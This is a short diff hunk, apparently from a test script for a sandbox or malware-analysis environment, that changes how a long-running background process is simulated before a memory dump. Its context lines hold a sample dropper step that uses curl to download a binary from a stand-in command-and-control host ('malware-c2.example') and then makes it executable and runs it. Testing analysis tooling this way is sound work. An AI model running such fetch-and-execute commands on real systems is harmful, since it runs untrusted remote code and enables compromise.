@@ -16,8 +16,9 @@ mkdir -p /tmp/stage
 sh -c 'echo from-child > /tmp/stage/child.txt'
 curl -s -o /tmp/stage/payload http://malware-c2.example/payload.bin
 chmod +x /tmp/stage/payload && /tmp/stage/payload
-# A process that outlives the timeout: its memory is dumped at the end, then the machine kills it.
-sleep 600 &
+# A process that outlives the timeout (short sleeps: a long one would return at once): its memory is
+# dumped at the end, then the machine kills it.
+while :; do sleep 1; done &
 sleep 1
 `;
 
